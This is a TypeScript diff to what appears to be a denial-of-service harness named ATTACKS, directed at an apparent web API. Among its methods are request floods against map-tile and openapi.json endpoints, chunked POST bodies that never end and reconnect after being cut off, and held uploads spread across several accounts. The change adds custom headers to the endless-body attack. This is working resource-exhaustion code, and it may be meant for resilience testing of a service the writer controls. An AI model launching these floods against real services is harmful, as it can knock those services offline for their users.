@@ -65,7 +65,9 @@ function floodOf(url: string, connections: number, next: (connection: number) =>
 }
 
 /** A client that sends a body without end, as fast as it is taken, and comes back whenever it is cut off. */
-function endlessBody(url: URL, path: string): Stop {
+function endlessBody({ url: server, from }: Attacker, path: string): Stop {
+  const url = new URL(server);
+  const head = Object.entries(from).map(([name, value]) => `${name}: ${value}\r\n`);
   let socket: Socket | null = null;
   let isOver = false;
   const begin = () => {
@@ -79,7 +81,7 @@ function endlessBody(url: URL, path: string): Stop {
     own.once('close', () => setTimeout(begin, AGAIN_MS));
     own.resume().once('connect', () => {
       own.write(`POST ${path} HTTP/1.1\r\nHost: ${url.host}\r\nContent-Type: application/json\r\n`);
-      own.write('Transfer-Encoding: chunked\r\n\r\n{"query":"');
+      own.write(`${head.join('')}Transfer-Encoding: chunked\r\n\r\n{"query":"`);
       pour();
     });
   };
@@ -134,9 +136,9 @@ export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<St
       const filters = { text: `${texts[asked % texts.length]?.slice(0, 190)}${asked}` };
       return { path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`, headers: from };
     }),
-  bodies: ({ url }) =>
+  bodies: (attacker) =>
     together(
-      Array.from({ length: BODIES }, (_, at) => endlessBody(new URL(url), BODY_PATHS[at % BODY_PATHS.length] ?? '')),
+      Array.from({ length: BODIES }, (_, at) => endlessBody(attacker, BODY_PATHS[at % BODY_PATHS.length] ?? '')),
     ),
   uploads: (attacker) => together(attacker.accounts.slice(0, 14).map(({ headers }) => heldUpload(attacker, headers))),
   description: ({ url, from }) => floodOf(url, 10, () => ({ path: '/api/openapi.json', headers: from })),
